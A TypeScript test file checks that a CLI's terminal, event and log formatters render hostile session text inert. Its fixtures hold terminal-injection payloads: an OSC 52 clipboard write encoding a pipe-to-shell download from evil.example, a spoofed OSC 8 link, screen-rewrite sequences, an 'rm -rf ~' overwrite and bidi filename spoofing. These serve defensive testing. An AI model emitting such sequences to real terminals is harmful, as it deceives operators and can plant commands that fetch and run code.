/**
 * Text from sessions (model, sandbox, API clients) shown on the operator's terminal: no escape sequence, control
 * character or bidi override in it acts on the terminal.
 */
import { describe, expect, it } from 'vitest';
import { forTerminal, jsonLine } from '../../src/cli/terminal.js';
import { eventDetail, formatEvent, shorten } from '../../src/cli/format.js';
import type { SessionEvent } from '../../src/log/events.js';
import { jsonLogLine, textLogLine } from '../../src/telemetry.js';

/** Anything a terminal would act on, other than line feed and tab. */
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE: Record<string, string> = {
  'OSC 52 clipboard write (BEL)': 'before\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07after',
  'OSC 52 clipboard write (ST)': '\x1b]52;c;ZXZpbA==\x1b\\',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\https://docs.example/\x1b]8;;\x1b\\',
  'OSC 0 window title': '\x1b]0;owned\x07',
  'CSI clear screen and home': '\x1b[2J\x1b[H',
  'CSI cursor up and erase line': 'ok\n\x1b[1A\x1b[2Kfake line',
  'CSI private mode (alternate screen)': '\x1b[?1049h',
  'DCS (sixel / DECRQSS)': '\x1bP$q"p\x1b\\',
  'APC': '\x1b_Gf=100;AAAA\x1b\\',
  'ESC c (full reset)': '\x1bc',
  'charset switch': '\x1b(0lqqk\x1b(B',
  'C1 CSI (8-bit)': '\u009b2J',
  'C1 OSC (8-bit)': '\u009d52;c;ZXZpbA==\u009c',
  'C1 NEL': 'a\u0085b',
  'bidi RLO': 'file\u202egnp.exe',
  'bidi isolates': '\u2066\u2067\u2068x\u2069',
  'BEL, backspace, CR overwrite': 'safe\x08\x08\x08\x08evil\rrm -rf ~\x07',
  'NUL, DEL, vertical tab, form feed': 'a\x00b\x7fc\x0bd\x0ce',
  'lone ESC at the end': 'text\x1b',
  'unterminated OSC': '\x1b]52;c;ZXZpbA==',
};

describe('forTerminal', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    it(`neutralises ${name}`, () => {
      const out = forTerminal(text, { newlines: true, tabs: true });
      expect(out).not.toMatch(ACTIVE);
      expect(forTerminal(out, { newlines: true, tabs: true })).toBe(out); // idempotent
      expect(forTerminal(text)).not.toMatch(/[\n\t]/); // one line unless newlines are kept
    });
  }

  it('shows what it neutralises: ESC as ␛ with the rest as plain text, C1 and bidi as <U+…>', () => {
    expect(forTerminal('\x1b]52;c;ZXZpbA==\x07')).toBe('␛]52;c;ZXZpbA==␇');
    expect(forTerminal('\x1b[2J')).toBe('␛[2J');
    expect(forTerminal('\u009b2J')).toBe('<U+009B>2J');
    expect(forTerminal('file\u202egnp.exe')).toBe('file<U+202E>gnp.exe');
    expect(forTerminal('a\rb\x00\x7f')).toBe('a␍b␀␡');
    expect(forTerminal('a\nb\tc')).toBe('a␊b␉c');
    expect(forTerminal('a\r\nb\tc', { newlines: true, tabs: true })).toBe('a\nb\tc');
  });

  it('drops colour sequences, so coloured tool output reads as text', () => {
    expect(forTerminal('\x1b[32mPASSED\x1b[0m 3 tests, \x1b[1;31m1 failed\x1b[m')).toBe('PASSED 3 tests, 1 failed');
  });

  it('leaves ordinary text, Unicode included, as it is', () => {
    const text = 'Grüße, 日本語, emoji 🎉, Arabic مرحبا, Hebrew שלום, box ┌─┐, quotes «»';
    expect(forTerminal(text)).toBe(text);
  });
});

describe('event lines', () => {
  const event = (fields: Record<string, unknown>): SessionEvent =>
    ({ id: '12.0', seq: 12, processed_at: '2026-01-01T00:00:00Z', ...fields }) as SessionEvent;
  const all = Object.values(HOSTILE).join(' | ');
  const events: SessionEvent[] = [
    event({ type: 'agent.message', content: [{ type: 'text', text: all }] }),
    event({ type: 'user.message', content: [{ type: 'text', text: all }] }),
    event({ type: 'agent.thinking', block: { thinking: all } }),
    event({ type: 'agent.tool_use', name: `bash\x1b]0;t\x07`, input: { command: all } }),
    event({ type: 'agent.mcp_tool_use', mcp_server_name: '\u202eevil', name: '\x9b2J', input: { q: all } }),
    event({ type: 'agent.tool_result', is_error: false, content: [{ type: 'text', text: all }] }),
    event({ type: 'agent.mcp_tool_result', is_error: true, content: [{ type: 'text', text: all }] }),
    event({ type: 'agent.custom_tool_use', name: 'x\x1b[2J', input: {}, session_thread_id: 'sesn\x1b[2J' }),
    event({ type: 'user.custom_tool_result', custom_tool_use_id: 'id\x1b[2J', content: all }),
    event({ type: 'user.tool_confirmation', tool_use_id: 'tu\x07', result: 'deny', deny_message: all }),
    event({ type: 'session.status_idle', stop_reason: { type: 'requires_action', event_ids: ['tu\x1b]52;c;eA==\x07'] } }),
    event({ type: 'session.error', error: { type: 'Model.\x1b[2J', message: all } }),
    event({ type: 'sandbox.provisioned', sandbox: { name: 'n\x1b[2J', container_id: '\x1b]0;x\x07abcdef' } }),
    event({ type: 'sandbox.lost', error: { message: all } }),
    event({ type: 'session.thread_created', agent_name: all, session_thread_id: 'sesn\u202e' }),
    event({ type: 'span.outcome_evaluation_start', outcome_id: 'o\x1b[2J', iteration: 0 }),
    event({ type: 'span.outcome_evaluation_end', result: 'x\x07', iteration: 0, explanation: all }),
    event({ type: 'user.define_outcome', description: all }),
  ];

  for (const e of events) {
    it(`${e.type}: one line with nothing a terminal acts on`, () => {
      expect(eventDetail(e)).not.toMatch(ACTIVE);
      const line = formatEvent(e, false);
      expect(line).not.toMatch(ACTIVE);
      expect(line).not.toContain('\n');
    });
  }

  it('with colours, the only escape sequences are the printer\'s own colours', () => {
    const line = formatEvent(events[0]!, true);
    const withoutOwn = line.replace(/\x1b\[(?:3[1-6]|90|0)m/g, '');
    expect(withoutOwn).not.toMatch(ACTIVE);
    expect(line).toContain('␛]52;c;');
  });

  it('shorten cuts the visible text, not a sequence in half', () => {
    const cut = shorten(`${'x'.repeat(10)}\x1b]52;c;${'A'.repeat(200)}\x07`, 20);
    expect(cut).toBe(`${'x'.repeat(10)}␛]52;c;AA…`); // 20 characters as shown
  });
});

describe('jsonLine', () => {
  it('escapes controls, C1 and bidi characters, and reads back to the same value', () => {
    const value = { text: Object.values(HOSTILE).join('\n'), nested: [{ name: '\u202e\u009b' }] };
    const line = jsonLine(value);
    expect(line).not.toMatch(ACTIVE);
    expect(line).not.toContain('\n');
    expect(JSON.parse(line)).toEqual(value);
    // Plain JSON.stringify already escapes C0 (ESC included) but leaves C1 and bidi characters raw.
    expect(JSON.stringify(value)).not.toMatch(/[\x00-\x1f]/);
    expect(JSON.stringify(value)).toMatch(/[\u009b\u202e]/);
  });
});

describe('worker logs (tandem dev, tandem worker)', () => {
  it('a failure quoting hostile text is logged inert, as text and as JSON', () => {
    const error = new Error(`The tool failed: ${Object.values(HOSTILE).join(' ')}`);
    const entry = { level: 'WARN', message: 'Activity failed', timestampNanos: 1_700_000_000_000_000_000n, meta: { error } };
    const text = textLogLine(entry);
    expect(text).toContain('[WARN] Activity failed');
    expect(text).toContain('␛]52;c;');
    expect(text).not.toMatch(ACTIVE);
    const json = jsonLogLine(entry);
    expect(json).not.toMatch(ACTIVE);
    expect((JSON.parse(json) as { error: { message: string } }).error.message).toBe(error.message);
  });
});
